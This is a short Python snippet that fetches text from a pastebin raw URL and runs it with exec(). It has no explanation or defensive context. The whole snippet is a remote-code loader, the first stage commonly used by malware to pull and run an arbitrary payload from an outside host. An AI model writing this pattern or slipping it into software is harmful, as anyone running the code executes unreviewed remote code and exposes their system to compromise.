import requests
code = requests.get("https://pastebin.com/raw/abcd", timeout=5).text
compile(code, "x", "exec")
exec(code)
